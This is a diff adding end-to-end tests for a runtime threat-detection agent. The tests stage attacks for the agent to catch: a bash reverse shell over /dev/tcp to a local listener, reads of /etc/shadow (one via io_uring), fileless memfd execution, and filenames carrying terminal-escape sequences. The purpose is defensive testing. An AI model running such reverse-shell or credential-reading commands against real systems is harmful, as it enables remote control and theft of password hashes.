@@ -1,0 +1,245 @@
+/** The product, end to end: the agent as a user starts it, real attacks, findings on standard output. */
+import { spawn, spawnSync } from 'node:child_process'
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { cannotObserve, compileProgram, type Program } from './observe.ts'
+import { ROOT, type RunningTarsier, startTarsier, tarsier, until } from './tarsier.ts'
+
+const reason = cannotObserve()
+const folder = mkdtempSync(join(tmpdir(), 'tarsier-run-'))
+const odd = join(folder, 'odd')
+const running: RunningTarsier[] = []
+let uring: Program
+let process_: Program
+
+beforeAll(() => {
+  if (reason !== undefined) return
+  uring = compileProgram('uring')
+  process_ = compileProgram('process')
+  copyFileSync('/bin/cat', odd)
+})
+beforeEach(({ skip }) => {
+  if (reason !== undefined) skip(reason)
+})
+afterEach(async () => {
+  for (const one of running.splice(0)) await one.stop('SIGKILL')
+})
+afterAll(() => {
+  uring?.remove()
+  process_?.remove()
+  rmSync(folder, { recursive: true })
+})
+
+async function start(args: readonly string[]): Promise<RunningTarsier> {
+  const started = await startTarsier(args)
+  running.push(started)
+  return started
+}
+
+/** A rule for one test alone, in a file. */
+function ruleFile(condition: string, output = 'opened %fd.name by %proc.cmdline'): string {
+  const path = join(folder, 'rule.yaml')
+  writeFileSync(path, JSON.stringify([{ rule: 'Watched', desc: 'A test.', condition, output, priority: 'NOTICE' }]))
+  return path
+}
+
+describe('with the shipped rules', () => {
+  test('the four attacks of the README are found, each with its rule, process and lineage', async () => {
+    const agent = await start(['run', '--format', 'json'])
+    spawnSync(odd, ['/etc/shadow'])
+    await process_.run('memfd')
+    await reverseShell()
+    await uring.run('openat', '/etc/shadow')
+
+    const read = await agent.finding(({ rule, output }) => rule === 'Password file read by an unusual program' && output.includes(odd))
+    expect(read).toMatchObject({ priority: 'Warning', count: 1, output_fields: { 'fd.name': '/etc/shadow', 'proc.exepath': odd } })
+    expect(read.lineage[0]).toMatchObject({ name: 'odd', exe_path: odd })
+    expect(read.lineage.map(({ exe_path }) => exe_path)).toContain(process.execPath)
+    await agent.finding(({ rule }) => rule === 'Program run from memory')
+    await agent.finding(({ rule, lineage }) => rule === 'Socket put on a standard stream' && lineage[0]?.name === 'bash')
+    await agent.finding(
+      ({ rule, lineage }) => rule === 'Sensitive file reached around the system call table' && lineage[0]?.name === 'uring',
+    )
+
+    const { code, stdout, stderr } = await agent.stop()
+    expect(code).toBe(0)
+    for (const line of stdout.trim().split('\n')) expect(JSON.parse(line)).toHaveProperty('output_fields')
+    expect(stderr).toMatch(/^tarsier: ready \(hooks=\d+, rules=\d+, processes=\d+, ms=\d+\)$/m)
+    expect(stderr).toMatch(/^tarsier: stopped \(seen=\d+, events=\d+, folded=\d+, lost=0, findings=\d+,/m)
+  })
+})
+
+/** What a reverse shell does, to a listener of our own. */
+async function reverseShell(): Promise<void> {
+  const server = createServer((socket) => socket.end('exit\n'))
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as { port: number }
+  const shell = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' })
+  await new Promise((resolve) => shell.on('close', resolve))
+  server.close()
+}
+
+describe('findings', () => {
+  test('equal ones of one process are folded, and the counts add up', async () => {
+    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/again`, 'opened by %proc.name')
+    const agent = await start(['run', '--rules', rules, '--json', '--fold-window', '300ms'])
+    spawnSync('bash', ['-c', `for n in $(seq 50); do echo > ${folder}/again$n; done`])
+    await until(() => sum(agent) === 50, 5000, agent.stdout)
+    expect(agent.findings().length).toBeLessThan(5)
+    expect(agent.findings()[0]?.count).toBe(1)
+  })
+
+  const sum = (agent: RunningTarsier): number => agent.findings().reduce((total, { count }) => total + count, 0)
+
+  test('names chosen by an attacker cannot act on a terminal or forge a line', async () => {
+    const name = '\x1b]0;owned\x07\n2026 Error fake: \u202egnp'
+    const rules = ruleFile(`evt.type in (open, openat, creat) and fd.name startswith ${folder}/x`)
+    const agent = await start(['run', '--rules', rules, '--color', 'never'])
+    writeFileSync(Buffer.from(`${folder}/x${name}\xff`, 'latin1'), '')
+    writeFileSync(`${folder}/x${name}`, '')
+    await until(() => agent.stdout().split('\n').length > 2, 5000, agent.stdout)
+    const printed = agent.stdout().trimEnd().split('\n')
+    expect(printed).toHaveLength(2)
+    for (const line of printed) expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u)
+    expect(printed[1]).toContain('\\x1b]0;owned\\x07\\x0a2026 Error fake: \\u{202e}gnp')
+    expect(printed[0]).toContain('\\xff')
+  })
+
+  test('--explain says which predicate was false', async () => {
+    const rules = ruleFile(`evt.type in (open, openat) and fd.name = /etc/hostname and proc.name = nobody-is-called-so`)
+    const agent = await start(['run', '--rules', rules, '--explain', 'Watched'])
+    spawnSync(odd, ['/etc/hostname'])
+    await until(() => /= false: proc\.name = nobody-is-called-so {2}\[odd\]/.test(agent.stderr()), 5000, agent.stderr)
+  })
+})
+
+describe('faults', () => {
+  test('SIGTERM in the middle of a burst ends it in order within seconds', async () => {
+    const agent = await start(['run', '--format', 'json'])
+    const burst = spawn('bash', ['-c', 'for n in $(seq 10000); do /bin/true & done; wait'], { stdio: 'ignore' })
+    await new Promise((resolve) => setTimeout(resolve, 1000))
+    const { code, ms, stdout, stderr } = await agent.stop()
+    burst.kill()
+    expect(code, stderr).toBe(0)
+    expect(ms).toBeLessThan(8000)
+    for (const line of stdout.split('\n').filter(Boolean)) JSON.parse(line)
+    expect(stderr).toMatch(/^tarsier: stopped \(/m)
+  })
+
+  test('SIGINT ends it in order, too', async () => {
+    const agent = await start(['run'])
+    expect(await agent.stop('SIGINT')).toMatchObject({ code: 0, stdout: '' })
+  })
+
+  test('two agents at once both see the same', async () => {
+    const agents = [await start(['run', '--format', 'json']), await start(['run', '--format', 'json'])]
+    spawnSync(odd, ['/etc/shadow'])
+    for (const agent of agents) await agent.finding(({ rule, output }) => rule.startsWith('Password file read') && output.includes(odd))
+    for (const agent of agents) expect(await agent.stop()).toMatchObject({ code: 0 })
+  })
+
+  test('a full disk and a dead syslog server are said, counted, and cost the other outputs nothing', async () => {
+    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/y`)
+    const outputs = ['--output', 'file:/dev/full', '--output', 'syslog+tcp://127.0.0.1:1', '--format', 'json']
+    const agent = await start(['run', '--rules', rules, ...outputs])
+    for (let n = 0; n < 20; n++) writeFileSync(join(folder, `y${n}`), '')
+    await until(() => agent.findings().length === 20, 5000, agent.stderr)
+    const { code, stderr } = await agent.stop()
+    expect(code).toBe(0)
+    expect(stderr.match(/cannot write findings to a file/g)).toHaveLength(1)
+    expect(stderr).toMatch(/syslog server cannot be reached.*ECONNREFUSED/)
+    expect(stderr).toMatch(/findings_lost=4\d/)
+  })
+
+  test('a file output holds what was printed, rotates, and is reopened on SIGHUP', async () => {
+    const rules = ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/z`)
+    const path = join(folder, 'out.json')
+    const agent = await start(['run', '--rules', rules, '--output', `file:${path}?maxBytes=2000&keep=50`, '--format', 'json'])
+    for (let n = 0; n < 10; n++) writeFileSync(join(folder, `z${n}`), '')
+    await until(() => agent.findings().length === 10, 5000, agent.stderr)
+    agent.child.kill('SIGHUP')
+    writeFileSync(join(folder, 'z10'), '')
+    await until(() => agent.findings().length === 11, 5000, agent.stderr)
+    const { stdout } = await agent.stop()
+    const rotated = spawnSync('sh', ['-c', `cat $(ls -v -r ${path}.*) ${path}`], { encoding: 'utf8' }).stdout
+    expect(rotated).toBe(stdout)
+  })
+
+  test('a reader that goes away ends it quietly', async () => {
+    const agent = await start(['run', '--rules', ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/w`)])
+    agent.child.stdout?.destroy()
+    for (let n = 0; n < 50 && agent.child.exitCode === null; n++) {
+      writeFileSync(join(folder, `w${n}`), '')
+      await new Promise((resolve) => setTimeout(resolve, 50))
+    }
+    const { code, stderr } = await agent.stop()
+    expect(code).toBe(0)
+    expect(stderr).not.toMatch(/error|warning/)
+  })
+
+  test.each([
+    ['without privileges', ['setpriv', '--reuid', '65534', '--clear-groups'], 'SENSOR_NO_PRIVILEGE'],
+    ['without BTF', ['unshare', '--mount', 'sh', '-c', 'mount -t tmpfs none /sys/kernel/btf && exec "$@"', 'sh'], 'SENSOR_NO_BTF'],
+  ])('%s it says what is missing and ends with 3', (_, [wrapper = '', ...args], code) => {
+    const { status, stderr } = spawnSync(wrapper, [...args, join(ROOT, 'tarsier'), 'run'], { encoding: 'utf8' })
+    expect(stderr).toContain(`[${code}]`)
+    expect(status).toBe(3)
+  })
+})
+
+describe('recordings', () => {
+  test('a replay finds what the live run found', async () => {
+    const path = join(folder, 'live.tsr')
+    const rules = ['--rules', 'rules', ruleFile(`evt.type in (open, openat) and fd.name startswith ${folder}/r`)]
+    const recorder = await start(['record', path])
+    const agent = await start(['run', '--format', 'json', ...rules])
+    spawnSync(odd, ['/etc/shadow'])
+    await process_.run('memfd')
+    for (let n = 0; n < 5; n++) writeFileSync(join(folder, `r${n}`), '')
+    await until(() => agent.findings().length >= 7, 5000, agent.stdout)
+    const { stdout } = await agent.stop()
+    expect(await recorder.stop()).toMatchObject({ code: 0 })
+    const live = keysOf(stdout)
+    const replayed = tarsier(['replay', path, '--format', 'json', ...rules])
+    expect(replayed.code, replayed.stderr).toBe(0)
+    expect(keysOf(replayed.stdout)).toEqual(expect.arrayContaining(live))
+  })
+
+  /** What must be equal: the rest (ids of events, findings about the other agent) may differ. */
+  function keysOf(stdout: string): unknown[] {
+    const findings = stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line))
+    const ours = findings.filter(({ output }) => output.includes(folder))
+    return ours.map(({ rule, output, process, count, lineage }) => ({ rule, output, process, count, lineage }))
+  }
+
+  test('a recording that is cut is replayed as far as it goes, and said', async () => {
+    const path = join(folder, 'cut.tsr')
+    const recorder = await start(['record', path, '--kinds', 'process'])
+    for (let n = 0; n < 50; n++) spawnSync('/bin/true')
+    await recorder.stop()
+    writeFileSync(path, readFileSync(path).subarray(0, -200))
+    const { code, stderr } = tarsier(['replay', path])
+    expect(code).toBe(1)
+    expect(stderr).toMatch(/breaks off after \d+ bytes.*\[RECORDING_TRUNCATED\]/)
+    expect(stderr).toMatch(/replayed \(events=[1-9]/)
+  })
+})
+
+describe('events', () => {
+  test('shows what happens, filtered, and as the input of rules eval', async () => {
+    const filter = ['--filter', `fd.name = /etc/hostname and proc.name = odd`]
+    const [text, json] = [await start(['events', '--color', 'never', ...filter]), await start(['events', '--json', ...filter])]
+    spawnSync(odd, ['/etc/hostname'])
+    await until(() => text.stdout() !== '' && json.stdout() !== '', 5000, text.stderr)
+    expect(text.stdout()).toMatch(/^\d\d:\d\d:\d\d\.\d{6} odd\[\d+\] root openat\(.*name=\/etc\/hostname flags=O_RDONLY\) = \d+\n$/)
+    const rules = ruleFile('evt.type = openat and fd.name = /etc/hostname and proc.exepath endswith /odd')
+    const evaluated = tarsier(['rules', 'eval', '--rules', rules], { input: json.stdout() })
+    expect(evaluated).toMatchObject({ code: 0, stdout: '1: Watched\n', stderr: '' })
+  })
+})
